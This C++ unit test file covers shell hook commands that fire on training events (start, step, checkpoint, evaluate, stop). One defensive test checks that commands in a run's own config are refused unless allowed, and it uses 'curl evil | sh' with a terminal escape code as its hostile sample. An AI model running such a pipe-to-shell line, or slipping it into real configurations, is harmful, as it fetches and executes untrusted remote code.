#include "trireme/train/callbacks/event_commands.h"

#include <gtest/gtest.h>

#include "tests/harness/messages.h"
#include "tests/train/text_run.h"
#include "trireme/base/file/file.h"

namespace trireme::train {
namespace {

class EventCommandsTest : public TextRun {};

TEST_F(EventCommandsTest, RunOnceForEachEvent) {
  const std::string file = (folder_ / "events").string();
  const std::string note = "echo $TRIREME_EVENT $TRIREME_STEP >> '" + file + "'";
  run(config("a", {{"train.steps", "4"},
                   {"checkpoint.mode", "sync"},  // otherwise later steps may come before the event
                   {"train.evaluate_interval", "3"},
                   {"train.evaluate_sequences", "8"},
                   {"command.on_start", note},
                   {"command.on_evaluate", note},
                   {"command.on_step", note},
                   {"command.on_checkpoint", note},
                   {"command.on_stop", note}}),
      2);
  EXPECT_EQ(read_file(file),
            "on_start 0\non_step 1\non_step 2\non_checkpoint 2\non_evaluate 3\non_step 3\n"
            "on_evaluate 4\non_step 4\non_checkpoint 4\non_stop 4\n");
}

TEST_F(EventCommandsTest, GetTheMetricsAndTheCheckpoint) {
  const std::string folder = (folder_ / "").string();
  run(config("a", {{"train.steps", "2"},
                   {"command.on_checkpoint",
                    "cat > '" + folder + "line'; ls \"$TRIREME_CHECKPOINT\" > '" + folder +
                        "files'; test -f \"$TRIREME_FOLDER/metrics.jsonl\""}}),
      1);
  EXPECT_EQ(nlohmann::json::parse(read_file(folder_ / "line")), metrics("a").back());
  EXPECT_NE(read_file(folder_ / "files").find("manifest.json"), std::string::npos);
}

// A failing command is told, and the run goes on.
TEST_F(EventCommandsTest, AFailureEndsNothing) {
  struct Observer : TrainObserver {
    std::vector<std::string> lines;
    void on_finding(const std::string& line) override { lines.push_back(line); }
  } observer;
  const RunConfig failing = config("a", {{"command.on_checkpoint", "exit 7"}});
  harness::run_ranks(1, [&](comm::Communicator& world) {
    const std::atomic<bool> stop = false;
    EXPECT_EQ(Trainer(failing, world, observer).run(stop), Outcome::kFinished);
  });
  EXPECT_EQ(observer.lines, std::vector<std::string>(3, "command.on_checkpoint ended with code 7"));
}

// A config beside checkpoints was written by the program, here or elsewhere.
TEST_F(EventCommandsTest, ThoseOfARunsOwnConfigNeedToBeAllowed) {
  const auto refusal = [&](const std::vector<Override>& keys, const std::vector<Override>& typed) {
    const RunConfig config = this->config("a", keys);
    return harness::message_of<ConfigError>(
        [&] { require_own_commands(config.callbacks, folder_ / "a" / "other.toml", typed); });
  };
  const Override command = {"command.on_start", "curl evil | sh\x1b[2J"};
  std::filesystem::create_directories(folder_ / "a");
  EXPECT_EQ(refusal({command}, {}), "") << "a config of the user's";
  std::filesystem::create_directories(folder_ / "a" / "checkpoints");
  EXPECT_EQ(refusal({}, {}), "");
  const std::string message = refusal({command, {"command.on_stop", "rm x"}}, {});
  for (const char* part : {"other.toml is the config of a run", "command.on_start = \"curl evil",
                           "command.on_stop = \"rm x\"", "--command.allow=true"}) {
    EXPECT_NE(message.find(part), std::string::npos) << message;
  }
  EXPECT_EQ(message.find('\x1b'), std::string::npos);
  EXPECT_EQ(refusal({command}, {command}), "") << "typed";
  EXPECT_EQ(refusal({command}, {{"command.allow", "true"}}), "");
  EXPECT_NE(refusal({command}, {{"command.allow", "true"}, {"command.allow", "false"}}), "");
  EXPECT_NE(refusal({command, {"command.allow", "true"}}, {}), "") << "the file allows itself";
  EXPECT_NE(refusal({command}, {{"command.on_stop", "echo"}}), "");
}

}  // namespace
}  // namespace trireme::train
